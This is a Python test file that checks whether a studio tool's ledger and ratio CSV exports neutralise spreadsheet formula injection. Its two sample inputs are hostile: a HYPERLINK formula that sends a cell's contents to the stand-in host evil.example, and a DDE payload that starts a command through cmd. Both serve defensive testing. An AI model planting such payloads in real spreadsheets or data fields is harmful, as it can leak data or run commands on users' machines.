"""Formulas typed into the studio (prompts, project names) come out of its CSV exports inert."""
from __future__ import annotations

import csv
import io

from brand_guard.ledger import import_csv

FORMULA_PROJECT = '=HYPERLINK("http://evil.example/?"&A1,"invoice")'
FORMULA_PROMPT = "@SUM(1+1)*cmd|' /C calc'!A0"


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _live_formulas(cells) -> list[str]:
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_formula_prompts_and_project_names_are_inert_in_ledger_and_ratio_csv(studio, tmp_path):
    studio.generate_concepts(FORMULA_PROMPT, n=1, seed=1, project=FORMULA_PROJECT)
    target = tmp_path / "ledger.csv"
    studio.ledger.export_csv(target)
    with open(target, encoding="utf-8", newline="") as handle:
        ledger_text = handle.read()
    ratios = studio.ratio_report(format="csv")
    assert "'" + FORMULA_PROJECT in _cells(ratios)  # quoted where it starts a cell
    assert not _live_formulas(_cells(ledger_text)) and not _live_formulas(_cells(ratios))
    entries = import_csv(target)  # and read back exactly, inside the ledger's JSON payload
    assert [e.to_dict() for e in entries] == [e.to_dict() for e in studio.ledger.events()]
    assert entries[0].payload["collection"] == FORMULA_PROJECT
